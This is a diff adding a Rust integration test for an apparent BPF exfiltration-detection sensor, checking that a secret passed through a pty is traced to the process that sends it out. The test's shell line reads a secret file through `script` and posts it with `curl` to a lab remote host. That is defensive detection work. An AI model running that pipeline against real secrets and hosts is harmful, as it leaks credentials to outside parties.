@@ -101,6 +101,36 @@ fn unix_socket_peer_is_tainted_by_the_sender() -> Result<()> {
     Ok(())
 }
 
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn secret_shown_in_a_pty_taints_the_master_side_reader() -> Result<()> {
+    let lab = Lab::new(actor_exe!())?;
+    let sensor = lab.sensor()?;
+    let dest = lab.remote().tcp_v4();
+    // `cat` writes into the pty's slave side; `script` reads the master side (as an SSH server
+    // or a reverse shell would) and hands it on through a pipe to `curl`.
+    let script = format!(
+        "script -qfc 'cat {}' /dev/null < /dev/null | curl -sS -o /dev/null --max-time 10 --data-binary @- {}",
+        quoted(lab.secret()),
+        host_tools::url(dest)
+    );
+
+    host_tools::sh(&script)?;
+
+    let by_curl = |line: &Value| {
+        alert::is_exfiltration_to(dest)(line)
+            && host_tools::is_program(alert::process_executable(line), "curl")
+    };
+    let alert = sensor.expect(by_curl, ALERT_TIMEOUT)?;
+    assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
+    let script_read = sensor.lines_matching(|line| {
+        alert::via_kind(line) == Some("pty")
+            && host_tools::is_program(alert::process_executable(line), "script")
+    });
+    assert!(!script_read.is_empty(), "script took it in from the pty: {:#?}", sensor.lines());
+    Ok(())
+}
+
 fn make_fifo(path: &std::path::Path) -> Result<()> {
     let c_path = CString::new(path.as_os_str().as_bytes())?;
     // SAFETY: a valid NUL-terminated path.
